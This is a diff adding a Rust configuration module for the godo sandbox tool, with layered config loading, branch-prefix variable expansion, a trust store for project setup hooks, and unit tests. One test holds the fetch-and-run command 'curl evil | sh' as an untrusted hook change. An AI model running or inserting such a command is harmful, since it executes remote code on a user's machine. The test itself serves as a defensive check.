@@ -0,0 +1,445 @@
+use std::{collections::BTreeMap, env, fs, mem, path::Path, str::FromStr};
+
+use anyhow::{Context, Result};
+use clap::ValueEnum;
+use libgodo::{with_file_lock, write_atomic};
+use serde::{Deserialize, Serialize};
+
+/// File name of the project-level configuration, read from the repository root.
+pub const PROJECT_CONFIG_FILE: &str = ".godo.toml";
+
+/// File name of the user-level configuration, read from the godo directory.
+pub const USER_CONFIG_FILE: &str = "config.toml";
+
+/// File name, in the godo directory, recording the project setup hooks the user has trusted.
+pub const TRUSTED_HOOKS_FILE: &str = "trusted-hooks.toml";
+
+/// File name, in the godo directory, of the lock serialising changes to the trusted hooks.
+const TRUSTED_HOOKS_LOCK_FILE: &str = "trusted-hooks.lock";
+
+/// How to handle uncommitted changes in the source repository when creating a sandbox.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Deserialize, ValueEnum)]
+#[serde(rename_all = "lowercase")]
+pub enum UncommittedSetting {
+    /// Ask interactively; include the changes when prompts are disabled.
+    #[default]
+    Prompt,
+    /// Include uncommitted changes in the sandbox.
+    Include,
+    /// Start the sandbox from a clean `HEAD`.
+    Clean,
+    /// Refuse to create the sandbox.
+    Abort,
+}
+
+impl FromStr for UncommittedSetting {
+    type Err = anyhow::Error;
+
+    fn from_str(value: &str) -> Result<Self> {
+        <Self as ValueEnum>::from_str(value, true)
+            .map_err(|_| anyhow::anyhow!("expected one of: prompt, include, clean, abort"))
+    }
+}
+
+/// What to do with a sandbox after the command exits.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Deserialize, ValueEnum)]
+#[serde(rename_all = "lowercase")]
+pub enum AfterRun {
+    /// Remove unmodified sandboxes and ask about the rest.
+    #[default]
+    Prompt,
+    /// Keep the sandbox.
+    Keep,
+    /// Commit any changes interactively, then clean up.
+    Commit,
+    /// Discard the sandbox and its branch.
+    Discard,
+}
+
+impl FromStr for AfterRun {
+    type Err = anyhow::Error;
+
+    fn from_str(value: &str) -> Result<Self> {
+        <Self as ValueEnum>::from_str(value, true)
+            .map_err(|_| anyhow::anyhow!("expected one of: prompt, keep, commit, discard"))
+    }
+}
+
+/// On-disk layout of a godo configuration file.
+#[derive(Debug, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+struct ConfigFile {
+    /// Prefix for sandbox branch names.
+    branch_prefix: Option<String>,
+    /// Settings for `godo run`.
+    run: RunSection,
+    /// Settings for `godo diff`.
+    diff: DiffSection,
+    /// Commands run at points in the sandbox lifecycle.
+    hooks: HooksSection,
+}
+
+/// `[run]` section of a configuration file.
+#[derive(Debug, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+struct RunSection {
+    /// Exclude patterns added to every sandbox clone.
+    excludes: Vec<String>,
+    /// Uncommitted-changes policy.
+    uncommitted: Option<UncommittedSetting>,
+    /// Action taken after the command exits.
+    after: Option<AfterRun>,
+}
+
+/// `[hooks]` section of a configuration file.
+#[derive(Debug, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+struct HooksSection {
+    /// Shell commands run once inside a newly created sandbox.
+    setup: Vec<String>,
+}
+
+/// `[diff]` section of a configuration file.
+#[derive(Debug, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+struct DiffSection {
+    /// Pager command for diff output.
+    pager: Option<String>,
+}
+
+/// Effective configuration after layering defaults, config files and environment variables.
+///
+/// Layers are applied in order: the user config in the godo directory, the project's
+/// `.godo.toml`, then `GODO_*` environment variables. Later layers override scalar settings;
+/// exclude patterns accumulate. Command-line flags are applied on top by the caller.
+#[derive(Debug, Default, PartialEq, Eq)]
+pub struct Config {
+    /// Exclude patterns applied to every sandbox clone.
+    pub excludes: Vec<String>,
+    /// Uncommitted-changes policy for new sandboxes.
+    pub uncommitted: UncommittedSetting,
+    /// Action taken after a run completes.
+    pub after_run: AfterRun,
+    /// Pager command for `godo diff`.
+    pub pager: Option<String>,
+    /// Prefix for sandbox branch names, when overridden, with environment variables expanded.
+    pub branch_prefix: Option<String>,
+    /// Setup hooks from the user config, run inside newly created sandboxes.
+    pub setup_hooks: Vec<String>,
+    /// Setup hooks from the project's `.godo.toml`, run after the user's once trusted.
+    ///
+    /// These come from the repository, so running them needs the user's consent; see
+    /// [`hooks_trusted`].
+    pub project_hooks: Vec<String>,
+}
+
+impl Config {
+    /// Load the layered configuration for a repository.
+    pub fn load(godo_dir: &Path, repo_dir: &Path) -> Result<Self> {
+        Self::load_with(godo_dir, repo_dir, |key| env::var(key).ok())
+    }
+
+    /// Load the layered configuration, looking environment variables up through `var`.
+    ///
+    /// The user config is applied first, then the project's `.godo.toml`, then `GODO_*`
+    /// variables.
+    fn load_with(
+        godo_dir: &Path,
+        repo_dir: &Path,
+        var: impl Fn(&str) -> Option<String>,
+    ) -> Result<Self> {
+        let mut config = Self::default();
+        if let Some(file) = read_config_file(&godo_dir.join(USER_CONFIG_FILE))? {
+            config.apply_file(file);
+        }
+        if let Some(mut file) = read_config_file(&repo_dir.join(PROJECT_CONFIG_FILE))? {
+            config.project_hooks = mem::take(&mut file.hooks.setup);
+            config.apply_file(file);
+        }
+        config.apply_env(&var)?;
+        config.expand_branch_prefix(&var)?;
+        Ok(config)
+    }
+
+    /// Merge a parsed configuration file into this configuration.
+    fn apply_file(&mut self, file: ConfigFile) {
+        self.excludes.extend(file.run.excludes);
+        self.setup_hooks.extend(file.hooks.setup);
+        if let Some(uncommitted) = file.run.uncommitted {
+            self.uncommitted = uncommitted;
+        }
+        if let Some(after) = file.run.after {
+            self.after_run = after;
+        }
+        if file.diff.pager.is_some() {
+            self.pager = file.diff.pager;
+        }
+        if file.branch_prefix.is_some() {
+            self.branch_prefix = file.branch_prefix;
+        }
+    }
+
+    /// Merge `GODO_*` environment variables, looked up through `var`.
+    fn apply_env(&mut self, var: impl Fn(&str) -> Option<String>) -> Result<()> {
+        if let Some(excludes) = var("GODO_EXCLUDES") {
+            self.excludes.extend(
+                excludes
+                    .split(',')
+                    .map(str::trim)
+                    .filter(|pattern| !pattern.is_empty())
+                    .map(str::to_string),
+            );
+        }
+        if let Some(value) = var("GODO_UNCOMMITTED") {
+            self.uncommitted = value
+                .parse()
+                .with_context(|| format!("Invalid GODO_UNCOMMITTED value '{value}'"))?;
+        }
+        if let Some(value) = var("GODO_AFTER_RUN") {
+            self.after_run = value
+                .parse()
+                .with_context(|| format!("Invalid GODO_AFTER_RUN value '{value}'"))?;
+        }
+        if let Some(pager) = var("GODO_PAGER") {
+            self.pager = Some(pager);
+        }
+        if let Some(prefix) = var("GODO_BRANCH_PREFIX") {
+            self.branch_prefix = Some(prefix);
+        }
+        Ok(())
+    }
+
+    /// Expand `$VAR` and `${VAR}` references in the branch prefix, looked up through `var`.
+    ///
+    /// This lets a shared project config ask for personal prefixes such as `$USER/godo/`.
+    fn expand_branch_prefix(&mut self, var: impl Fn(&str) -> Option<String>) -> Result<()> {
+        if let Some(prefix) = &self.branch_prefix {
+            let expanded = expand_vars(prefix, var)
+                .with_context(|| format!("Invalid branch prefix '{prefix}'"))?;
+            self.branch_prefix = Some(expanded);
+        }
+        Ok(())
+    }
+}
+
+/// Replace `$VAR` and `${VAR}` references in `value` with values looked up through `var`.
+///
+/// Fails when a referenced variable is unset. A `$` not followed by a variable name is kept.
+fn expand_vars(value: &str, var: impl Fn(&str) -> Option<String>) -> Result<String> {
+    let is_name_char = |c: char| c.is_ascii_alphanumeric() || c == '_';
+    let mut expanded = String::with_capacity(value.len());
+    let mut rest = value;
+    while let Some(start) = rest.find('$') {
+        expanded.push_str(&rest[..start]);
+        let after = &rest[start + 1..];
+        let (name, remainder) = if let Some(braced) = after.strip_prefix('{') {
+            let end = braced
+                .find('}')
+                .ok_or_else(|| anyhow::anyhow!("unterminated '${{' in '{value}'"))?;
+            (&braced[..end], &braced[end + 1..])
+        } else {
+            let end = after.find(|c| !is_name_char(c)).unwrap_or(after.len());
+            (&after[..end], &after[end..])
+        };
+        if name.is_empty() {
+            expanded.push('$');
+            rest = after;
+            continue;
+        }
+        let resolved =
+            var(name).ok_or_else(|| anyhow::anyhow!("environment variable {name} is not set"))?;
+        expanded.push_str(&resolved);
+        rest = remainder;
+    }
+    expanded.push_str(rest);
+    Ok(expanded)
+}
+
+/// On-disk layout of the trusted hooks file.
+#[derive(Debug, Default, Serialize, Deserialize)]
+struct TrustedHooks {
+    /// Trusted project setup hooks, keyed by repository path.
+    #[serde(default)]
+    repos: BTreeMap<String, Vec<String>>,
+}
+
+/// Whether the user has trusted exactly `hooks` as the project setup hooks of `repo_dir`.
+///
+/// Trust covers the hooks as they were when it was given, so any change to them in
+/// `.godo.toml` has to be confirmed again.
+pub fn hooks_trusted(godo_dir: &Path, repo_dir: &Path, hooks: &[String]) -> Result<bool> {
+    let trusted = read_trusted_hooks(godo_dir)?;
+    Ok(trusted
+        .repos
+        .get(repo_dir.to_string_lossy().as_ref())
+        .is_some_and(|trusted| trusted == hooks))
+}
+
+/// Record that the user trusts `hooks` as the project setup hooks of `repo_dir`.
+///
+/// The file is locked while it is updated and replaced atomically, so concurrent runs keep
+/// each other's entries and a crash cannot leave it truncated.
+pub fn trust_hooks(godo_dir: &Path, repo_dir: &Path, hooks: &[String]) -> Result<()> {
+    fs::create_dir_all(godo_dir)
+        .with_context(|| format!("Failed to create {}", godo_dir.display()))?;
+    with_file_lock(&godo_dir.join(TRUSTED_HOOKS_LOCK_FILE), || {
+        let mut trusted = read_trusted_hooks(godo_dir)?;
+        trusted
+            .repos
+            .insert(repo_dir.to_string_lossy().into_owned(), hooks.to_vec());
+        let contents = toml::to_string(&trusted).context("Failed to encode trusted hooks")?;
+        write_atomic(&godo_dir.join(TRUSTED_HOOKS_FILE), contents.as_bytes())
+    })
+}
+
+/// Read the trusted hooks file in `godo_dir`, which may not exist yet.
+fn read_trusted_hooks(godo_dir: &Path) -> Result<TrustedHooks> {
+    let path = godo_dir.join(TRUSTED_HOOKS_FILE);
+    if !path.exists() {
+        return Ok(TrustedHooks::default());
+    }
+    let contents = fs::read_to_string(&path)
+        .with_context(|| format!("Failed to read trusted hooks {}", path.display()))?;
+    toml::from_str(&contents)
+        .with_context(|| format!("Failed to parse trusted hooks {}", path.display()))
+}
+
+/// Read and parse a configuration file, returning `None` when it does not exist.
+fn read_config_file(path: &Path) -> Result<Option<ConfigFile>> {
+    if !path.exists() {
+        return Ok(None);
+    }
+    let contents = fs::read_to_string(path)
+        .with_context(|| format!("Failed to read config file {}", path.display()))?;
+    let file = toml::from_str(&contents)
+        .with_context(|| format!("Failed to parse config file {}", path.display()))?;
+    Ok(Some(file))
+}
+
+#[cfg(test)]
+mod tests {
+    use std::{collections::HashMap, path::PathBuf, thread};
+
+    use tempfile::tempdir;
+
+    use super::*;
+
+    #[test]
+    fn later_layers_override_scalars_and_extend_excludes() {
+        let tmp = tempdir().unwrap();
+        let godo_dir = tmp.path().join("godo");
+        let repo_dir = tmp.path().join("repo");
+        fs::create_dir_all(&godo_dir).unwrap();
+        fs::create_dir_all(&repo_dir).unwrap();
+
+        fs::write(
+            godo_dir.join(USER_CONFIG_FILE),
+            "branch_prefix = \"$USER/\"\n[run]\nexcludes = [\"*.log\"]\nafter = \"keep\"\n\
+             uncommitted = \"abort\"\n[diff]\npager = \"less\"\n\
+             [hooks]\nsetup = [\"direnv allow\"]\n",
+        )
+        .unwrap();
+        fs::write(
+            repo_dir.join(PROJECT_CONFIG_FILE),
+            "branch_prefix = \"bots/\"\n[run]\nexcludes = [\"**/target\"]\n\
+             uncommitted = \"clean\"\n[diff]\npager = \"more\"\n\
+             [hooks]\nsetup = [\"cargo fetch\"]\n",
+        )
+        .unwrap();
+
+        let env: HashMap<&str, &str> = HashMap::from([
+            ("GODO_EXCLUDES", "node_modules, dist"),
+            ("GODO_PAGER", "delta"),
+            ("GODO_BRANCH_PREFIX", "$USER/bots/"),
+            ("USER", "alice"),
+        ]);
+        let config = Config::load_with(&godo_dir, &repo_dir, |key| {
+            env.get(key).map(|value| value.to_string())
+        })
+        .unwrap();
+
+        assert_eq!(
+            config,
+            Config {
+                excludes: vec![
+                    "*.log".to_string(),
+                    "**/target".to_string(),
+                    "node_modules".to_string(),
+                    "dist".to_string(),
+                ],
+                uncommitted: UncommittedSetting::Clean,
+                after_run: AfterRun::Keep,
+                pager: Some("delta".to_string()),
+                branch_prefix: Some("alice/bots/".to_string()),
+                setup_hooks: vec!["direnv allow".to_string()],
+                project_hooks: vec!["cargo fetch".to_string()],
+            }
+        );
+    }
+
+    #[test]
+    fn branch_prefix_expands_environment_variables() {
+        let env: HashMap<&str, &str> = HashMap::from([("USER", "alice"), ("TEAM", "infra")]);
+        let var = |key: &str| env.get(key).map(|value| value.to_string());
+
+        let mut config = Config {
+            branch_prefix: Some("$USER/${TEAM}_bots/$/".to_string()),
+            ..Config::default()
+        };
+        config.expand_branch_prefix(var).unwrap();
+        assert_eq!(config.branch_prefix.as_deref(), Some("alice/infra_bots/$/"));
+
+        let mut config = Config {
+            branch_prefix: Some("$MISSING/godo/".to_string()),
+            ..Config::default()
+        };
+        assert!(config.expand_branch_prefix(var).is_err());
+    }
+
+    #[test]
+    fn project_hooks_need_trust_until_they_change() {
+        let tmp = tempdir().unwrap();
+        let repo_dir = Path::new("/src/app");
+        let hooks = vec!["npm ci".to_string()];
+        assert!(!hooks_trusted(tmp.path(), repo_dir, &hooks).unwrap());
+
+        trust_hooks(tmp.path(), repo_dir, &hooks).unwrap();
+        assert!(hooks_trusted(tmp.path(), repo_dir, &hooks).unwrap());
+        assert!(!hooks_trusted(tmp.path(), Path::new("/src/other"), &hooks).unwrap());
+
+        let changed = vec!["npm ci".to_string(), "curl evil | sh".to_string()];
+        assert!(!hooks_trusted(tmp.path(), repo_dir, &changed).unwrap());
+    }
+
+    #[test]
+    fn concurrent_trust_keeps_every_repository() {
+        let tmp = tempdir().unwrap();
+        let hooks = vec!["npm ci".to_string()];
+        thread::scope(|scope| {
+            for index in 0..8 {
+                let (godo_dir, hooks) = (tmp.path(), &hooks);
+                scope.spawn(move || {
+                    let repo_dir = PathBuf::from(format!("/src/app-{index}"));
+                    trust_hooks(godo_dir, &repo_dir, hooks).unwrap();
+                });
+            }
+        });
+
+        for index in 0..8 {
+            let repo_dir = PathBuf::from(format!("/src/app-{index}"));
+            assert!(hooks_trusted(tmp.path(), &repo_dir, &hooks).unwrap());
+        }
+    }
+
+    #[test]
+    fn invalid_values_are_rejected() {
+        let mut config = Config::default();
+        let result = config.apply_env(|key| (key == "GODO_AFTER_RUN").then(|| "later".to_string()));
+        assert!(result.is_err());
+
+        let tmp = tempdir().unwrap();
+        let path = tmp.path().join(PROJECT_CONFIG_FILE);
+        fs::write(&path, "[run]\nunknown = true\n").unwrap();
+        assert!(read_config_file(&path).is_err());
+    }
+}